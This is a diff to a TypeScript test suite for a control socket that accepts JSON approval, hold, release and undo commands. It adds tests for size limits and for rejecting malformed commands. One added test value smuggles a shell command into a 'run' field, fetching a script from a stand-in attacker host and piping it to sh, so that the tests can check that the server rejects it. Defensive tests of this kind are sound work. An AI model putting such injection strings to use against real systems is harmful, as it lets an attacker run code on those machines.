@@ -48,6 +48,7 @@ const sent = (path: string, body: Buffer, at: number): Promise<string> =>
   })
 
 const question = (reason: string): Question => ({ _tag: 'Approve', digest: 'sha256:1', reason, by: 'jörg' })
+const person = { reason: 'r', by: 'jörg' }
 const isText = (value: unknown): value is string => typeof value === 'string'
 
 spec('the control socket', (test) => {
@@ -76,13 +77,61 @@ spec('the control socket', (test) => {
   test('takes 64 KiB, whatever letters they are, and not more', () =>
     withPath(async (path) => {
       const asked = await served(path, async () => {
-        const short = Buffer.from(JSON.stringify(question('ü'.repeat(32_000))))
-        const long = Buffer.from(JSON.stringify(question('ü'.repeat(33_000))))
+        const short = Buffer.from(JSON.stringify({ _tag: 'Approve', digest: 'ü'.repeat(32_000), ...person }))
+        const long = Buffer.from(JSON.stringify({ _tag: 'Approve', digest: 'ü'.repeat(33_000), ...person }))
         assert.match(await sent(path, short, 1), /^HTTP\/1.1 200/)
         assert.is(await sent(path, long, 1), '')
       })
       assert.is(asked.length, 1)
     }))
+
+  const until = 1
+  const holds = (what: object) => ({ _tag: 'Decide', decision: { _tag: 'Hold', what, until }, ...person })
+  const releases = (what: object) => ({ _tag: 'Decide', decision: { _tag: 'Release', what, every: false }, ...person })
+  const long = '*'.repeat(129)
+  const evil = 'x; curl evil.example/a|sh'
+  const taken: ReadonlyArray<object> = [
+    holds({ _tag: 'Users', glob: '*'.repeat(128) }),
+    holds({ _tag: 'Removals' }),
+    holds({ _tag: 'All' }),
+    releases({ _tag: 'Stop', glob: 'one*' }),
+    releases({ _tag: 'Undo', run: '20261124T080035Z-5161f4', users: [] }),
+    { _tag: 'Decide', decision: { _tag: 'Release', every: true }, ...person },
+    { _tag: 'Stop', glob: '*', until, ...person },
+    { _tag: 'PlanUndo', run: '2026' },
+    { ...question('r'.repeat(10_000)), by: 'b'.repeat(256) },
+  ]
+  for (const asked of taken)
+    test(`takes what a command asks: ${JSON.stringify(asked).slice(0, 100)}`, () =>
+      withPath(async (path) => {
+        const heard = await served(path, async () => {
+          assert.match(await sent(path, Buffer.from(JSON.stringify(asked)), 1), /^HTTP\/1.1 200/)
+        })
+        assert.equal(heard, [asked])
+      }))
+
+  for (const [why, asked] of [
+    ['a hold that only an undo makes', holds({ _tag: 'Undo', run: '2026', users: [] })],
+    ['a hold that only a stop makes', holds({ _tag: 'Stop', glob: '*' })],
+    ['a hold of nobody', holds({ _tag: 'Users', glob: '' })],
+    ['a pattern that is too long', holds({ _tag: 'Users', glob: long })],
+    ['the end of a hold of nobody', releases({ _tag: 'Users', glob: '' })],
+    ['a run that is a command', releases({ _tag: 'Undo', run: evil, users: [] })],
+    ['the undoing of such a run', { _tag: 'Undo', run: evil, agreement: { _tag: 'Anyway' }, ...person }],
+    ['the plan of it', { _tag: 'PlanUndo', run: evil }],
+    ['a stop of nobody', { _tag: 'Stop', glob: '', until, ...person }],
+    ['a question who that would be', { _tag: 'Matching', glob: long }],
+    ['a protection of nobody', { _tag: 'Decide', decision: { _tag: 'Unprotect', glob: '' }, ...person }],
+    ['a reason without end', question('r'.repeat(10_001))],
+    ['a name without end', { ...question('r'), by: 'b'.repeat(257) }],
+  ] as const)
+    test(`takes nothing that no command asks: ${why}`, () =>
+      withPath(async (path) => {
+        const heard = await served(path, async () => {
+          assert.match(await sent(path, Buffer.from(JSON.stringify(asked)), 1), /^HTTP\/1.1 400/)
+        })
+        assert.equal(heard, [])
+      }))
 
   test('gives an answer as it was written, wherever it is cut on its way', () =>
     withPath(async (path) => {
